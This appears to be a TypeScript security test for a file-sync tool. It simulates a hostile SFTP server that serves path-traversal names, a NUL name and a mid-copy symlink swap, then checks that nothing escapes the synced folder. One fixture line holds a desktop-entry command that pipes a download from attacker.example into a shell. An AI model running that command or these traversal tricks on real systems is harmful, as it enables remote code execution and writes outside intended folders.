/**
 * Attack (issue 16, workspace -> the user's laptop): root in the workspace replaces its sftp-server, which hot
 * sync (`full` mount mode) lists to copy the workspace's files to this machine. It names entries `../../escape`,
 * `a/b` and one with a NUL, and while a file is being copied it turns a local folder into a link out of the
 * folder (the workspace can make links in the local tree through sshfs). Nothing may be written outside the
 * local folder, the crafted names create nothing, and the other files still sync both ways.
 */
import assert from 'node:assert/strict';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Client, FileEntryWithStats, InputAttributes, OpenMode, SFTPWrapper, Stats } from 'ssh2';
import { needs } from '../../../../test/support/needs.js';
import { HotSync } from '../../src/hot-sync.js';
import { KnownHosts } from '../../src/known-hosts.js';
import { connectSsh } from '../../src/ssh-connection.js';
import { startLocalSshd } from '../helpers/local-sshd.js';

type Done<T> = (error: Error | undefined, value: T) => void;

/**
 * The workspace's SFTP as its root can make it, in front of OpenSSH's sftp-server (the stand-in of
 * hot-sync.test.ts): listings of `root` end with the crafted names, each served from `payload`, and
 * `beforeOpen` runs when a file is opened, so the attacker can act while hot sync copies it.
 */
function hostileSftp(
  sftp: SFTPWrapper,
  root: string,
  crafted: readonly string[],
  payload: { path: string; attrs: Stats },
  beforeOpen: (where: string) => void,
): SFTPWrapper {
  const servedFromPayload = new Set(crafted.map((name) => path.posix.join(root, name)));
  const real = (where: string) => (servedFromPayload.has(where) ? payload.path : where);
  const rootHandles = new Set<string>();
  const overrides: Partial<Record<keyof SFTPWrapper, unknown>> = {
    opendir: (where: string, done: Done<Buffer>) =>
      sftp.opendir(where, (error, handle) => {
        if (!error && where === root) rootHandles.add(handle.toString('hex'));
        done(error, handle);
      }),
    readdir: (handle: Buffer, done: Done<FileEntryWithStats[]>) =>
      sftp.readdir(handle, (error, list) => {
        // The real listing's end (EOF) is preceded by one more batch: the crafted names.
        if (error && rootHandles.delete(handle.toString('hex')))
          return done(
            undefined,
            crafted.map((filename) => ({ filename, longname: filename, attrs: payload.attrs })),
          );
        done(error, list);
      }),
    lstat: (where: string, done: Done<Stats>) => sftp.lstat(real(where), done),
    readlink: (where: string, done: Done<string>) => sftp.readlink(real(where), done),
    open: (where: string, flags: OpenMode, attrs: InputAttributes, done: Done<Buffer>) => {
      beforeOpen(where);
      sftp.open(real(where), flags, attrs, done);
    },
  };
  return new Proxy(sftp, {
    get: (target, key) => {
      if (key in overrides) return overrides[key as keyof SFTPWrapper];
      const value = Reflect.get(target, key);
      return typeof value === 'function' ? value.bind(target) : value;
    },
  });
}

describe('attack: the workspace names entries outside the synced folder', {
  skip: needs('sftp-server'),
  timeout: 60_000,
}, () => {
  const work = mkdtempSync(path.join(tmpdir(), 'ccp-attack-hot-sync-'));
  const outside = path.join(work, 'outside');
  const root = path.join(work, 'case');
  const local = path.join(root, 'local folder');
  const remote = path.join(root, 'workspace');
  const L = (rel: string) => path.join(local, rel);
  const R = (rel: string) => path.join(remote, rel);
  let sshd: Awaited<ReturnType<typeof startLocalSshd>>;
  let client: Client | undefined;
  let engine: HotSync | undefined;

  before(async () => {
    sshd = await startLocalSshd(process.env, undefined, true);
  });

  after(async () => {
    await engine?.stop();
    client?.end();
    sshd.close();
    rmSync(work, { recursive: true, force: true });
  });

  it('writes nothing outside the folder, skips the crafted names with a notice, syncs the rest', async () => {
    mkdirSync(outside);
    writeFileSync(path.join(outside, 'secret.txt'), 'outside\n');
    mkdirSync(local, { recursive: true });
    mkdirSync(remote);
    symlinkSync(local, path.join(root, 'cold'));
    const payload = path.join(root, 'attacker payload');
    writeFileSync(payload, '[Desktop Entry]\nExec=sh -c "curl attacker.example | sh"\n');
    writeFileSync(L('from laptop.txt'), 'made here\n');
    writeFileSync(R('from workspace.txt'), 'made in the workspace\n');
    // A folder on both sides; the workspace adds a file to it, and swaps the local folder for a link out
    // while hot sync copies that file (after it checked the folder).
    mkdirSync(L('swapped'));
    mkdirSync(R('swapped'));
    writeFileSync(R('swapped/new.txt'), 'aimed outside\n');
    const crafted = ['../../escape', 'a/b', 'nul\0name'];

    client = await connectSsh(
      { host: '127.0.0.1', port: sshd.port, username: 'u', password: 'p' },
      new KnownHosts(path.join(work, 'known_hosts')),
    );
    const opened = client;
    const sftp = await new Promise<SFTPWrapper>((resolve, reject) =>
      opened.sftp((error, session) => (error ? reject(error) : resolve(session))),
    );
    const attrs = await new Promise<Stats>((resolve, reject) =>
      sftp.lstat(payload, (error, stats) => (error ? reject(error) : resolve(stats))),
    );
    const hostile = hostileSftp(sftp, remote, crafted, { path: payload, attrs }, (where) => {
      if (where !== R('swapped/new.txt')) return;
      rmSync(L('swapped'), { recursive: true });
      symlinkSync(outside, L('swapped'));
    });

    const notices: string[] = [];
    engine = new HotSync({
      localRoot: local,
      remoteRoot: remote,
      coldRoot: path.join(root, 'cold'),
      maxFileBytes: 1000,
      pollMs: 60_000,
      onNotice: (text) => notices.push(text),
    });
    await engine.attach(hostile);

    assert.deepEqual(readdirSync(work).sort(), ['case', 'known_hosts', 'outside']);
    assert.deepEqual(readdirSync(outside), ['secret.txt']);
    assert.equal(existsSync(L('a')), false);
    for (const name of crafted)
      assert.ok(
        notices.some((text) => text.includes(JSON.stringify(name))),
        `no notice names ${JSON.stringify(name)}:\n${notices.join('\n')}`,
      );
    assert.ok(
      notices.some((text) => /swapped\/new\.txt.*outside the folder/.test(text)),
      notices.join('\n'),
    );
    // The pass went on: the legitimate files crossed both ways.
    assert.equal(readFileSync(L('from workspace.txt'), 'utf8'), 'made in the workspace\n');
    assert.equal(readFileSync(R('from laptop.txt'), 'utf8'), 'made here\n');
  });
});
